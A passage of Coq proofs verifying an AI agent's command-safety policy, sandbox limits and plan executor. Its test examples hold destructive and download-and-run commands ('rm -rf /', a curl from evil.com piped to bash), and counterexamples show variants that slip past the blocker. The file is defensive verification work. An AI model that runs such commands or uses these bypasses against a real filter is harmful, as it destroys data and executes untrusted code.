Lemma strip_app_space_r : forall x w, all_space w = true -> strip (x ++ w) = strip x.
Proof.
  intros x w H. unfold strip. rewrite lstrip_app.
  destruct (all_space x) eqn:E.
  - rewrite (lstrip_all_space x E), (lstrip_all_space w H). reflexivity.
  - rewrite rstrip_app, (rstrip_all_space w H). reflexivity.
Qed.

End StrFacts.

Module RegexFacts.

Import PyStr Regex.
Local Open Scope string_scope.

Lemma search_app : forall r p s, search r s = true -> search r (p ++ s) = true.
Proof.
  intros r p s H; induction p as [|c p IH]; simpl; auto.
  rewrite IH; apply orb_true_r.
Qed.

End RegexFacts.

Module PolicyFacts.

Import PyStr Regex Policy StrFacts RegexFacts.
Local Open Scope string_scope.

Example policy_rm_rf_root :
  check_command true "rm -rf /" =
  mkPolicyResult false BLOCKED "Cannot delete root filesystem".
Proof. vm_compute. reflexivity. Qed.

Example policy_ls :
  check_command true "ls -la" = mkPolicyResult true LOW "Read-only operation".
Proof. vm_compute. reflexivity. Qed.

Example policy_rm_file :
  check_command true "rm file.txt" =
  mkPolicyResult true HIGH "Deleting files (confirmation required)".
Proof. vm_compute. reflexivity. Qed.

Example policy_curl_bash :
  risk (check_command true "  CURL http://evil.com | BASH") = BLOCKED.
Proof. vm_compute. reflexivity. Qed.


Lemma str_app_assoc : forall a b c : string, (a ++ b) ++ c = a ++ (b ++ c).
Proof. induction a as [|x a IH]; intros b c; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma first_match_some : forall pats s,
  existsb (fun pr => search (fst pr) s) pats = true ->
  exists why, first_match pats s = Some why.
Proof.
  induction pats as [|[p why] pats IH]; simpl; intros s H; [discriminate|].
  destruct (search p s); [eauto|]. apply IH. exact H.
Qed.

Lemma blocked_match_app : forall p s,
  blocked_match s = true -> blocked_match (p ++ s) = true.
Proof.
  unfold blocked_match. intros p s H.
  apply existsb_exists in H as [pr [Hin Hs]].
  apply existsb_exists. exists pr. split; [exact Hin|]. now apply search_app.
Qed.

Lemma check_command_when_blocked : forall cfg C,
  blocked_match (strip (lower C)) = true ->
  allowed (check_command cfg C) = false /\ risk (check_command cfg C) = BLOCKED.
Proof.
  intros cfg C H. unfold check_command.
  destruct (first_match_some BLOCKED_PATTERNS _ H) as [why Hwhy].
  unfold get_blocked_patterns. rewrite Hwhy. split; reflexivity.
Qed.

(** The normalised text of a variant: changed letter case, whitespace
    added or removed at both ends. *)
Lemma normalize_variant : forall C D ws1 ws2,
  all_space ws1 = true -> all_space ws2 = true -> lower D = lower C ->
  strip (lower (ws1 ++ D ++ ws2)) = strip (lower C).
Proof.
  intros C D ws1 ws2 H1 H2 HD.
  rewrite !lower_app, (lower_all_space ws1 H1), (lower_all_space ws2 H2), HD.
  rewrite strip_app_space_l by exact H1.
  apply strip_app_space_r; exact H2.
Qed.

(** Claim C9: check_command lowercases and strips its input before any
    pattern is tested, so a command and any variant of it that differs in
    letter case or in leading/trailing whitespace get the same
    PolicyResult (for one snapshot of the safety settings). *)
Theorem check_command_case_ws_invariant : forall cfg C D ws1 ws2,
  all_space ws1 = true -> all_space ws2 = true -> lower D = lower C ->
  check_command cfg (ws1 ++ D ++ ws2) = check_command cfg C.
Proof.
  intros cfg C D ws1 ws2 H1 H2 HD. unfold check_command.
  rewrite (normalize_variant C D ws1 ws2 H1 H2 HD). reflexivity.
Qed.

Lemma check_command_case_ws_invariant_witness :
  all_space (String "009" " ") = true /\ all_space "  " = true /\
  lower "RM -RF /" = lower "rm -rf /" /\
  check_command true (String "009" " " ++ "RM -RF /" ++ "  ") =
    check_command true "rm -rf /".
Proof.
  refine (conj eq_refl (conj eq_refl (conj eq_refl _))).
  apply (check_command_case_ws_invariant true "rm -rf /" "RM -RF /"
                                           (String "009" " ") "  ");
    vm_compute; reflexivity.
Defined.

(** Claim C1 (as amended): for every command C whose lowercased, stripped
    text contains a match of one of the ten patterns of BLOCKED_PATTERNS,
    check_command returns allowed=false and risk=blocked, and so it does for
    every variant of C with changed letter case, leading whitespace and an
    optional (any-case) "sudo " prefix. *)
Theorem check_command_blocked_variants : forall cfg C ws S D,
  blocked_match (strip (lower C)) = true ->
  all_space ws = true ->
  (S = "" \/ lower S = "sudo ") ->
  lower D = lower C ->
  allowed (check_command cfg (ws ++ S ++ D)) = false /\
  risk (check_command cfg (ws ++ S ++ D)) = BLOCKED.
Proof.
  intros cfg C ws S D HB Hws HS HD. apply check_command_when_blocked.
  rewrite !lower_app, (lower_all_space ws Hws), HD.
  rewrite strip_app_space_l by exact Hws.
  destruct HS as [HS | HS]; rewrite HS; [exact HB|].
  unfold strip at 1.
  change (lstrip ("sudo " ++ lower C)) with ("sudo " ++ lower C).
  rewrite rstrip_app.
  destruct (rstrip_strip (lower C)) as [p Hp]. rewrite Hp.
  destruct (p ++ strip (lower C)) eqn:E.
  - destruct p; [|discriminate]. simpl in E. rewrite E in HB.
    exact (blocked_match_app "sudo" "" HB).
  - rewrite <- E, <- str_app_assoc. now apply blocked_match_app.
Qed.

Lemma check_command_blocked_variants_witness :
  blocked_match (strip (lower "rm -rf /")) = true /\
  allowed (check_command true ("  " ++ "Sudo " ++ "Rm -Rf /")) = false /\
  risk (check_command true ("  " ++ "Sudo " ++ "Rm -Rf /")) = BLOCKED.
Proof.
  split; [vm_compute; reflexivity|].
  apply (check_command_blocked_variants true "rm -rf /" "  " "Sudo " "Rm -Rf /");
    [vm_compute; reflexivity | vm_compute; reflexivity
    | right; vm_compute; reflexivity | vm_compute; reflexivity].
Defined.

(** Claim C1, as stated, fails: a curl download piped to [sh] (a shell,
    but not [bash]) and a root delete with two separate flag groups are
    both allowed. *)
Lemma check_command_blocked_variants_cex :
  check_command true "curl http://example.com/install.sh | sh" =
    mkPolicyResult true LOW "Read-only operation" /\
  check_command true "rm -r -f /" =
    mkPolicyResult true HIGH "Recursive/forced delete".
Proof. split; vm_compute; reflexivity. Qed.

End PolicyFacts.

Module CgroupFacts.

Import PyStr Cgroups.
Local Open Scope string_scope.

(** Claim C8: setup_cgroup writes memory.max = memory_max_mb * 2^20,
    memory.swap.max = 0, cpu.max = "(cpu_quota_percent*1000) 100000" and
    pids.max = pids_max, each as the decimal text of the number. *)
Theorem setup_cgroup_limits : forall subtree_exists mem cpu pids,
  written (setup_cgroup subtree_exists mem cpu pids) (path_join CGROUP_PATH "memory.max")
    = Some (str_int (mem * 2 ^ 20)) /\
  written (setup_cgroup subtree_exists mem cpu pids) (path_join CGROUP_PATH "memory.swap.max")
    = Some "0" /\
  written (setup_cgroup subtree_exists mem cpu pids) (path_join CGROUP_PATH "cpu.max")
    = Some (str_int (cpu * 1000) ++ " 100000") /\
  written (setup_cgroup subtree_exists mem cpu pids) (path_join CGROUP_PATH "pids.max")
    = Some (str_int pids).
Proof.
  intros b mem cpu pids.
  replace (mem * 2 ^ 20)%Z with (mem * 1024 * 1024)%Z
    by (rewrite <- Z.mul_assoc; reflexivity).
  destruct b; cbn -[str_int Z.mul]; repeat split.
Qed.

Example setup_cgroup_defaults :
  written (setup_cgroup true 512 50 100) (path_join CGROUP_PATH "memory.max")
    = Some "536870912" /\
  written (setup_cgroup true 512 50 100) (path_join CGROUP_PATH "cpu.max")
    = Some "50000 100000".
Proof. split; vm_compute; reflexivity. Qed.

End CgroupFacts.

Module AgentFacts.

Import PyStr Agent.
Local Open Scope string_scope.

(** Claim C7 (as amended): when the sandboxed command does not finish
    within the timeout N (the configured [timeout_seconds], 30 when
    absent), execute_sandboxed sends SIGKILL to the spawned process (its
    pid, not its process group), waits once more on the pipes, and returns
    exactly "Command timed out after N seconds". *)
Theorem execute_sandboxed_timeout : forall cfg_timeout command,
  let N := match cfg_timeout with Some t => t | None => 30%Z end in
  fst (execute_sandboxed cfg_timeout command TimedOut)
    = "Command timed out after " ++ str_int N ++ " seconds" /\
  skipn 2 (snd (execute_sandboxed cfg_timeout command TimedOut))
    = [SendSignal ChildPid SIGKILL; Communicate None].
Proof. intros cfg_timeout command N. split; reflexivity. Qed.

(** Claim C7, as stated, fails: on a timeout no signal goes to the
    process group. *)
Lemma execute_sandboxed_timeout_cex :
  ~ In (SendSignal ChildGroup SIGKILL) (snd (execute_sandboxed (Some 60%Z) "sleep 100" TimedOut))
  /\ fst (execute_sandboxed (Some 60%Z) "sleep 100" TimedOut)
     = "Command timed out after 60 seconds".
Proof.
  split; [|vm_compute; reflexivity].
  simpl. intros [H|[H|[H|[H|[]]]]]; discriminate.
Qed.

End AgentFacts.

Module ExecutorFacts.

Import PyStr Json PyVal Actions Planner Executor.
Local Open Scope string_scope.

Lemma pykey_eqb_eq : forall a b, pykey_eqb a b = true <-> a = b.
Proof.
  intros [|x|x] [|y|y]; simpl; split; intros H; try discriminate; auto.
  - apply Z.eqb_eq in H; now subst.
  - injection H as <-; apply Z.eqb_refl.
  - apply String.eqb_eq in H; now subst.
  - injection H as <-; apply String.eqb_refl.
Qed.

Lemma kget_kset : forall (V : Type) k k' (v : V) d,
  kget k (kset k' v d) = if pykey_eqb k k' then Some v else kget k d.
Proof.
  intros V k k' v d. induction d as [|[k0 v0] d IH]; simpl.
  - reflexivity.
  - destruct (pykey_eqb k' k0) eqn:E; simpl.
    + apply pykey_eqb_eq in E; subst k0. destruct (pykey_eqb k k'); reflexivity.
    + destruct (pykey_eqb k k0) eqn:E2; [|exact IH].
      apply pykey_eqb_eq in E2; subst k0.
      destruct (pykey_eqb k k') eqn:E3; [|reflexivity].
      apply pykey_eqb_eq in E3; subst k'.
      rewrite (proj2 (pykey_eqb_eq k k) eq_refl) in E. discriminate.
Qed.

(** Every entry of the context's [results] is a result already listed,
    filed under the key of its own step id. *)
Definition ctx_inv (prev : list StepResult) (ctx : ExecutionContext) : Prop :=
  forall k r, kget k (results ctx) = Some r -> In r prev /\ py_key (sr_step_id r) = inr k.

Lemma ctx_inv_empty : ctx_inv [] empty_ctx.
Proof. intros k r H. discriminate. Qed.

Lemma record_inv : forall prev ctx sid r ctx',
  ctx_inv prev ctx -> sr_step_id r = sid -> record ctx sid r = inr ctx' ->
  ctx_inv (prev ++ [r]) ctx'.
Proof.
  intros prev ctx sid r ctx' Hinv Hid Hrec k r0 Hget.
  unfold record in Hrec. destruct (py_key sid) as [e|k0] eqn:Hk; simpl in Hrec;
    [discriminate|].
  assert (Hres : results ctx' = kset k0 r (results ctx))
    by (destruct (sr_success r); injection Hrec as <-; reflexivity).
  rewrite Hres, kget_kset in Hget.
  destruct (pykey_eqb k k0) eqn:E.
  - apply pykey_eqb_eq in E; subst. injection Hget as <-.
    split; [apply in_or_app; right; left; reflexivity | exact Hk].
  - destruct (Hinv k r0 Hget) as [Hin Hk0].
    split; [apply in_or_app; left; exact Hin | exact Hk0].
Qed.

Lemma deps_loop_true : forall res ds why,
  deps_loop res ds = inr (true, why) ->
  forall d, In d ds -> exists k r, py_key d = inr k /\ kget k res = Some r /\ sr_success r = true.
Proof.
  intros res ds. induction ds as [|d0 ds IH]; intros why H d Hin; [destruct Hin|].
  simpl in H. destruct (py_key d0) as [e|k] eqn:Hk; simpl in H; [discriminate|].
  destruct (kget k res) as [r|] eqn:Hg; [|discriminate].
  destruct (sr_success r) eqn:Hs; [|discriminate].
  destruct Hin as [<-|Hin]; [exists k, r; auto|].
  exact (IH why H d Hin).
Qed.

Lemma deps_loop_false : forall res ds d k,
  (forall d', In d' ds -> exists k', py_key d' = inr k') ->
  In d ds -> py_key d = inr k ->
  match kget k res with Some r => sr_success r = false | None => True end ->
  exists why, deps_loop res ds = inr (false, why).
Proof.
  intros res ds. induction ds as [|d0 ds IH]; intros d k Hall Hin Hk Hbad;
    [destruct Hin|].
  destruct (Hall d0 (or_introl eq_refl)) as [k0 Hk0].
  cbn [deps_loop]. rewrite Hk0. unfold bind, ret.
  destruct Hin as [<-|Hin].
  - rewrite Hk in Hk0. injection Hk0 as <-.
    destruct (kget k res) as [r|]; [rewrite Hbad|]; eauto.
  - destruct (kget k0 res) as [r|]; [|eauto].
    destruct (sr_success r); [|eauto].
    apply (IH d k); auto. intros d' Hd'. apply Hall. right; exact Hd'.
Qed.

Ltac split_matches H :=
  repeat match type of H with
         | context [match ?x with _ => _ end] =>
             let E := fresh "E" in destruct x eqn:E; simpl in H
         end.

Section Props.

Variable W : Type.
Variable execute_fn : W -> string -> string * W.
Variable approve_fn : W -> string -> bool * W.
Variable confirm_delete : bool.

Lemma step_result_shape : forall sbs ctx st step r st',
  step_result W execute_fn approve_fn confirm_delete sbs ctx st step = inr (r, st') ->
  sr_step_id r = step_id step /\
  exists ok why,
    deps_satisfied ctx (depends_on step) = inr (ok, why) /\
    (ok = false ->
       r = mkStepResult (step_id step) "" "" false "skipped" true
                        (Some ("Dependency failed: " ++ why)) /\ st' = st) /\
    (sr_success r = true -> ok = true).
Proof.
  intros sbs ctx st step r st' H. unfold step_result in H.
  destruct (deps_satisfied ctx (depends_on step)) as [e|[ok why]] eqn:Hd;
    simpl in H; [discriminate|].
  destruct ok; simpl in H.
  - split.
    + unfold bind, ret, raise in H.
      split_matches H; try discriminate; injection H as <- <-; reflexivity.
    + exists true, why. split; [reflexivity|]. split; [discriminate | reflexivity].
  - injection H as <- <-. split; [reflexivity|].
    exists false, why. split; [reflexivity|]. split; [auto | simpl; discriminate].
Qed.

Lemma run_step_shape : forall sbs ctx st step ctx' st' r,
  run_step W execute_fn approve_fn confirm_delete sbs ctx st step = inr (ctx', st', r) ->
  step_result W execute_fn approve_fn confirm_delete sbs ctx st step = inr (r, st') /\
  record ctx (step_id step) r = inr ctx'.
Proof.
  intros sbs ctx st step ctx' st' r H. unfold run_step in H.
  destruct (step_result _ _ _ _ sbs ctx st step) as [e|[r0 st0]] eqn:E;
    simpl in H; [discriminate|].
  destruct (record ctx (step_id step) r0) as [e|c] eqn:E2; simpl in H; [discriminate|].
  injection H as <- <- <-. auto.
Qed.

Lemma run_steps_spec : forall sbs sts ctx st prev rs st',
  ctx_inv prev ctx ->
  run_steps W execute_fn approve_fn confirm_delete sbs ctx st sts = inr (rs, st') ->
  map sr_step_id rs = map step_id sts /\
  forall i step r ds d,
    nth_error sts i = Some step -> nth_error rs i = Some r -> sr_success r = true ->
    py_iter (depends_on step) = inr ds -> In d ds ->
    exists r' k, In r' (app prev (firstn i rs)) /\ py_key d = inr k /\
                 py_key (sr_step_id r') = inr k /\ sr_success r' = true.
Proof.
  intros sbs sts. induction sts as [|step sts IH]; intros ctx st prev rs st' Hinv H.
  - simpl in H. injection H as <- <-. split; [reflexivity|].
    intros [|i]; simpl; intros; discriminate.
  - simpl in H.
    destruct (run_step _ _ _ _ sbs ctx st step) as [e|[[ctx1 st1] r]] eqn:E1;
      simpl in H; [discriminate|].
    destruct (run_steps _ _ _ _ sbs ctx1 st1 sts) as [e|[rs' st2]] eqn:E2;
      simpl in H; [discriminate|].
    injection H as <- <-.
    destruct (run_step_shape _ _ _ _ _ _ _ E1) as [Hsr Hrec].
    destruct (step_result_shape _ _ _ _ _ _ Hsr) as [Hid [ok [why [Hd [_ Hok]]]]].
    assert (Hinv1 : ctx_inv (app prev [r]) ctx1) by (eapply record_inv; eauto).
    destruct (IH ctx1 st1 (app prev [r]) rs' st2 Hinv1 E2) as [Hmap Hdeps].
    split; [simpl; rewrite Hid, Hmap; reflexivity|].
    intros [|i] step0 r0 ds d Hs Hr Hsucc Hit Hin; simpl in Hs, Hr.
    + injection Hs as <-. injection Hr as <-.
      specialize (Hok Hsucc). subst ok.
      unfold deps_satisfied in Hd. rewrite Hit in Hd. simpl in Hd.
      destruct (deps_loop_true _ _ _ Hd d Hin) as [k [r1 [Hk [Hg Hs1]]]].
      destruct (Hinv k r1 Hg) as [Hin1 Hk1].
      exists r1, k. rewrite app_nil_r. auto.
    + destruct (Hdeps i step0 r0 ds d Hs Hr Hsucc Hit Hin) as [r' [k [Hin' Hrest]]].
      exists r', k. split; [|exact Hrest].
      simpl. rewrite <- app_assoc in Hin'. exact Hin'.
Qed.

(** Claim C10: whenever execute_plan returns, its list holds one
    StepResult per step of the plan, in the plan's order, each carrying
    its step's step_id; this covers every branch of the loop
    (dependency-skipped, policy-blocked, user-cancelled, executed). *)
Theorem execute_plan_one_result_per_step : forall plan st sbs rs st',
  execute_plan W execute_fn approve_fn confirm_delete plan st sbs = inr (rs, st') ->
  map sr_step_id rs = map step_id (steps plan).
Proof.
  intros plan st sbs rs st' H.
  exact (proj1 (run_steps_spec sbs (steps plan) empty_ctx st [] rs st' ctx_inv_empty H)).
Qed.

(** Claim C2: after execute_plan returns, for every result at position i
    with success=true, every id d listed in its step's depends_on is the
    step_id (as a dict key) of a successful result at an earlier
    position.  And a step one of whose dependencies has no recorded result
    or an unsuccessful one gets the result skipped=true, success=false,
    error "Dependency failed: ...", and nothing is executed for it (the
    world and the log of executed commands are unchanged). *)
Theorem execute_plan_deps_succeeded : forall plan st sbs rs st',
  execute_plan W execute_fn approve_fn confirm_delete plan st sbs = inr (rs, st') ->
  (forall i step r ds d,
     nth_error (steps plan) i = Some step -> nth_error rs i = Some r ->
     sr_success r = true ->
     py_iter (depends_on step) = inr ds -> In d ds ->
     exists r' k, In r' (firstn i rs) /\ py_key d = inr k /\
                  py_key (sr_step_id r') = inr k /\ sr_success r' = true) /\
  (forall ctx st0 step ds d k,
     py_iter (depends_on step) = inr ds ->
     (forall d', In d' ds -> exists k', py_key d' = inr k') ->
     In d ds -> py_key d = inr k ->
     match kget k (results ctx) with Some r => sr_success r = false | None => True end ->
     exists why,
       step_result W execute_fn approve_fn confirm_delete sbs ctx st0 step =
       inr (mkStepResult (step_id step) "" "" false "skipped" true
                         (Some ("Dependency failed: " ++ why)), st0)).
Proof.
  intros plan st sbs rs st' H. split.
  - exact (proj2 (run_steps_spec sbs (steps plan) empty_ctx st [] rs st' ctx_inv_empty H)).
  - intros ctx st0 step ds d k Hit Hall Hin Hk Hbad.
    destruct (deps_loop_false (results ctx) ds d k Hall Hin Hk Hbad) as [why Hw].
    exists why. unfold step_result, deps_satisfied. rewrite Hit. unfold bind at 2.
    cbn [bind]. rewrite Hw. reflexivity.
Qed.

End Props.

Import Scenarios.

Lemma execute_plan_one_result_per_step_witness :
  run_table echo_tbl plan2 =
    inr ([low_ok 1 "echo a" ("a" ++ nl); low_ok 2 "echo b" ("b" ++ nl)],
         mkSt unit tt ["echo a"; "echo b"]) /\
  map sr_step_id [low_ok 1 "echo a" ("a" ++ nl); low_ok 2 "echo b" ("b" ++ nl)]
    = map step_id (steps plan2).
Proof.
  split; [vm_compute; reflexivity|].
  apply (execute_plan_one_result_per_step unit (exec_table echo_tbl) approve_all true
           plan2 start false
           [low_ok 1 "echo a" ("a" ++ nl); low_ok 2 "echo b" ("b" ++ nl)]
           (mkSt unit tt ["echo a"; "echo b"])).
  vm_compute. reflexivity.
Defined.

Lemma execute_plan_deps_succeeded_witness :
  run_table echo_tbl plan2 =
    inr ([low_ok 1 "echo a" ("a" ++ nl); low_ok 2 "echo b" ("b" ++ nl)],
         mkSt unit tt ["echo a"; "echo b"]) /\
  exists r' k, In r' (firstn 1 [low_ok 1 "echo a" ("a" ++ nl); low_ok 2 "echo b" ("b" ++ nl)]) /\
               py_key (JInt 1) = inr k /\
               py_key (sr_step_id r') = inr k /\ sr_success r' = true.
Proof.
  split; [vm_compute; reflexivity|].
  destruct (execute_plan_deps_succeeded unit (exec_table echo_tbl) approve_all true
              plan2 start false
           [low_ok 1 "echo a" ("a" ++ nl); low_ok 2 "echo b" ("b" ++ nl)]
           (mkSt unit tt ["echo a"; "echo b"]))
    as [Hdeps _]; [vm_compute; reflexivity|].
  apply (Hdeps 1 (nth 1 (steps plan2) (mkPlanStep JNull JNull JNull JNull))
               (low_ok 2 "echo b" ("b" ++ nl)) [JInt 1] (JInt 1));
    [vm_compute; reflexivity | vm_compute; reflexivity | vm_compute; reflexivity
    | vm_compute; reflexivity | left; reflexivity].
Defined.

(** Claim C5 (code bug): [substitute] runs one [str.replace] per recorded
    variable in insertion order, so once step 1 is recorded its token
    "$STEP1" also rewrites the prefix of "$STEP10".  In the run of plan5
    (outputs "a" for step 1 and "b" for step 10), step 11's command
    "echo $STEP10" is executed as "echo a0", not "echo b". *)
Theorem substitute_step_prefix_collision :
  substitute (mkCtx [] [("$STEP1", "a"); ("$STEP10", "b")]) "echo $STEP10" = "echo a0" /\
  run_table echo_tbl plan5 =
    inr ([low_ok 1 "echo a" ("a" ++ nl); low_ok 10 "echo b" ("b" ++ nl);
          low_ok 11 "echo a0" ""],
         mkSt unit tt ["echo a"; "echo b"; "echo a0"]).
Proof. split; vm_compute; reflexivity. Qed.

(** Claim C6 (code bug): [try_adapt] says a "File exists" output is
    "Already done, not really an error", yet the executor keeps
    success=false for it: in the run of plan6, "mkdir d" answers
    "mkdir: cannot create directory 'd': File exists", step 1 is recorded
    as failed with that error, and the dependent step 2 is skipped. *)
Theorem execute_plan_file_exists_not_benign :
  let out := "mkdir: cannot create directory 'd': File exists" in
  contains "File exists" out = true /\
  try_adapt "mkdir d" out = None /\
  run_table mkdir_exists_tbl plan6 =
    inr ([mkStepResult (JInt 1) "mkdir d" out false "medium" false (Some out);
          mkStepResult (JInt 2) "" "" false "skipped" true
                       (Some "Dependency failed: Step 1 failed")],
         mkSt unit tt ["mkdir d"]).
Proof. intros out. repeat split; vm_compute; reflexivity. Qed.

End ExecutorFacts.

Module ActionsFacts.

Import PyStr Json Actions.
Local Open Scope string_scope.

Lemma build_unknown : forall name kvs,
  existsb (String.eqb name) ACTION_NAMES = false ->
  build name kvs = RunCommand (obj_get_default "action" (JStr "run_command") kvs)
                              (obj_get_default "command" (JStr "") kvs).
Proof.
  intros name kvs H. unfold build.
  repeat match goal with
         | |- context [String.eqb name ?x] =>
             destruct (String.eqb_spec name x) as [->|_];
             [vm_compute in H; discriminate H|]
         end.
  reflexivity.
Qed.

(** Claim C3 (as amended): for a text t that json.loads decodes to a
    JSON object whose "action" value a is not one of the nine action
    names, parse_action(t) returns a RunCommand.  When a is a string,
    number, boolean or null, its action field is a and its command is the
    object's "command" member ("" when absent), not the raw text; only
    when a is an array or an object (unhashable, a TypeError in
    ACTION_MAP.get) is the command the raw text t. *)
Theorem parse_action_unknown_action : forall t kvs a,
  json_loads t = Some (JObj kvs) ->
  obj_get_default "action" (JStr "run_command") kvs = a ->
  match a with JStr name => existsb (String.eqb name) ACTION_NAMES = false | _ => True end ->
  parse_action t =
    inr (match a with
         | JArr _ | JObj _ => RunCommand (JStr "run_command") (JStr t)
         | _ => RunCommand a (obj_get_default "command" (JStr "") kvs)
         end).
Proof.
  intros t kvs a Hl Ha Hn. unfold parse_action. rewrite Hl, Ha.
  destruct a; unfold ret; try reflexivity;
    rewrite build_unknown by (simpl; reflexivity || exact Hn); rewrite Ha; reflexivity.
Qed.

Lemma parse_action_unknown_action_witness :
  parse_action (sq2dq "{'action': 'shell', 'command': 'ls'}")
    = inr (RunCommand (JStr "shell") (JStr "ls")).
Proof.
  apply (parse_action_unknown_action (sq2dq "{'action': 'shell', 'command': 'ls'}")
           [("action", JStr "shell"); ("command", JStr "ls")] (JStr "shell"));
    vm_compute; reflexivity.
Defined.

(** Claim C3, as stated, fails: an object with the unknown action "foo"
    and no "command" member gives a RunCommand whose command is "", not
    the raw JSON text. *)
Lemma parse_action_unknown_action_cex :
  parse_action (sq2dq "{'action': 'foo'}") = inr (RunCommand (JStr "foo") (JStr "")) /\
  JStr "" <> JStr (sq2dq "{'action': 'foo'}").
Proof. split; [vm_compute; reflexivity | discriminate]. Qed.

End ActionsFacts.

Module PlannerFacts.

Import PyStr Json PyVal Planner.
Local Open Scope string_scope.

Lemma parse_steps_ok : forall items,
  forallb (fun it => match it with
                     | JObj skv => match obj_get "step_id" skv, obj_get "action" skv with
                                   | Some _, Some _ => true | _, _ => false end
                     | _ => false end) items = true ->
  exists sts, parse_steps items = inr sts /\
    map depends_on sts =
      map (fun it => match it with
                     | JObj skv => obj_get_default "depends_on" (JArr []) skv
                     | _ => JNull end) items.
Proof.
  induction items as [|it items IH]; simpl; intros H.
  - exists []. split; reflexivity.
  - apply andb_prop in H as [H1 H2]. destruct (IH H2) as [sts [Hp Hm]].
    destruct it as [| | | | |skv]; try discriminate.
    destruct (obj_get "step_id" skv) as [sid|] eqn:E1; [|discriminate].
    destruct (obj_get "action" skv) as [act|] eqn:E2; [|discriminate].
    eexists. unfold parse_step. rewrite E1, E2. unfold bind, ret.
    rewrite Hp. split; [reflexivity|].
    simpl. rewrite Hm. reflexivity.
Qed.

(** Claim C4 (as amended): parse_plan does not look at depends_on at all.
    For a response whose stripped text does not start with ``` and is a
    JSON object with a "steps" array whose items are objects carrying
    "step_id" and "action", parse_plan returns a Plan whose steps carry
    exactly the items' depends_on values (default []), whatever ids they
    name: unknown ids and ids of later steps are accepted. *)
Theorem parse_plan_depends_on_unchecked : forall raw kvs items,
  startswith (strip raw) "```" = false ->
  json_loads (strip raw) = Some (JObj kvs) ->
  obj_get_default "steps" (JArr []) kvs = JArr items ->
  forallb (fun it => match it with
                     | JObj skv => match obj_get "step_id" skv, obj_get "action" skv with
                                   | Some _, Some _ => true | _, _ => false end
                     | _ => false end) items = true ->
  exists sts,
    parse_plan raw = inr (mkPlan sts (obj_get_default "description" (JStr "") kvs)) /\
    map depends_on sts =
      map (fun it => match it with
                     | JObj skv => obj_get_default "depends_on" (JArr []) skv
                     | _ => JNull end) items.
Proof.
  intros raw kvs items Hs Hl Hst Hok.
  destruct (parse_steps_ok items Hok) as [sts [Hp Hm]].
  exists sts. split; [|exact Hm].
  unfold parse_plan. rewrite Hs. unfold decode_response. rewrite Hl.
  unfold bind at 1, ret at 1. rewrite Hst. simpl. rewrite Hp. reflexivity.
Qed.

Lemma parse_plan_depends_on_unchecked_witness :
  exists sts,
    parse_plan (Actions.sq2dq "{'steps': [{'step_id': 1, 'action': {}, 'depends_on': [2]}, {'step_id': 2, 'action': {}, 'depends_on': [3]}]}")
      = inr (mkPlan sts (JStr "")) /\
    map depends_on sts = [JArr [JInt 2]; JArr [JInt 3]].
Proof.
  apply (parse_plan_depends_on_unchecked
           (Actions.sq2dq "{'steps': [{'step_id': 1, 'action': {}, 'depends_on': [2]}, {'step_id': 2, 'action': {}, 'depends_on': [3]}]}")
           [("steps", JArr [JObj [("step_id", JInt 1); ("action", JObj []); ("depends_on", JArr [JInt 2])];
                            JObj [("step_id", JInt 2); ("action", JObj []); ("depends_on", JArr [JInt 3])]])]
           [JObj [("step_id", JInt 1); ("action", JObj []); ("depends_on", JArr [JInt 2])];
            JObj [("step_id", JInt 2); ("action", JObj []); ("depends_on", JArr [JInt 3])]]);
    vm_compute; reflexivity.
Defined.

(** Claim C4, as stated, fails: a plan whose step 1 depends on the later
    step 2 and whose step 2 depends on an id 3 that no step has is
    returned as it is, not rejected. *)
Lemma parse_plan_depends_on_unchecked_cex :
  parse_plan (Actions.sq2dq "{'description': 'p', 'steps': [{'step_id': 1, 'action': {'action': 'list_files'}, 'depends_on': [2]}, {'step_id': 2, 'action': {'action': 'list_files'}, 'depends_on': [3]}]}")
  = inr (mkPlan
           [mkPlanStep (JInt 1) (JObj [("action", JStr "list_files")]) (JArr [JInt 2]) (JStr "");
            mkPlanStep (JInt 2) (JObj [("action", JStr "list_files")]) (JArr [JInt 3]) (JStr "")]
           (JStr "p")).
Proof. vm_compute. reflexivity. Qed.

End PlannerFacts.

(* ------------------------------------------------------------------------- *)
(** * Further properties of the code *)

Module RegexSem.

Import PyStr Regex StrPred.
Local Open Scope string_scope.

Lemma str_app_nil : forall s : string, s ++ "" = s.
Proof. induction s as [|c s IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma str_app_assoc' : forall a b c : string, a ++ (b ++ c) = (a ++ b) ++ c.
Proof. induction a as [|x a IH]; intros b c; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma str_length_app : forall a b : string,
  String.length (a ++ b) = String.length a + String.length b.
Proof. induction a as [|x a IH]; intros b; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma str_forall_app : forall p a b,
  str_forall p (a ++ b) = str_forall p a && str_forall p b.
Proof.
  intros p a b. induction a as [|c a IH]; simpl; [reflexivity|].
  rewrite IH. apply andb_assoc.
Qed.

(** The star of the matcher, as a function of its own. *)
Fixpoint star_of (f : string -> list string) (n : nat) (s : string) : list string :=
  match n with
  | O => [s]
  | S n' =>
      s :: flat_map
             (fun s' => if Nat.ltb (String.length s') (String.length s)
                        then star_of f n' s' else [])
             (f s)
  end.

Lemma rests_star_eq : forall r s,
  rests (RStar r) s = star_of (rests r) (S (String.length s)) s.
Proof.
  intros r s.
  assert (H : forall n s,
    (fix star (n : nat) (s : string) : list string :=
       match n with
       | O => [s]
       | S n' =>
           s :: flat_map
                  (fun s' => if Nat.ltb (String.length s') (String.length s)
                             then star n' s' else [])
                  (rests r s)
       end) n s = star_of (rests r) n s).
  { induction n as [|n IH]; intros s'; simpl; [reflexivity|].
    f_equal. apply flat_map_ext. intros a. destruct (Nat.ltb _ _); auto. }
  exact (H (S (String.length s)) s).
Qed.

Lemma rests_cat_in : forall r1 r2 s m t,
  In m (rests r1 s) -> In t (rests r2 m) -> In t (rests (RCat r1 r2) s).
Proof. intros. simpl. apply in_flat_map. eauto. Qed.

Lemma rests_cat_inv : forall r1 r2 s t,
  In t (rests (RCat r1 r2) s) -> exists m, In m (rests r1 s) /\ In t (rests r2 m).
Proof. intros r1 r2 s t H. simpl in H. apply in_flat_map in H. exact H. Qed.

Lemma rests_chr_in : forall p c t, p c = true -> In t (rests (RChr p) (String c t)).
Proof. intros p c t H. simpl. rewrite H. left. reflexivity. Qed.

Lemma rests_chr_inv : forall p s t,
  In t (rests (RChr p) s) -> exists c, p c = true /\ s = String c t.
Proof.
  intros p [|c s'] t H; simpl in H; [destruct H|].
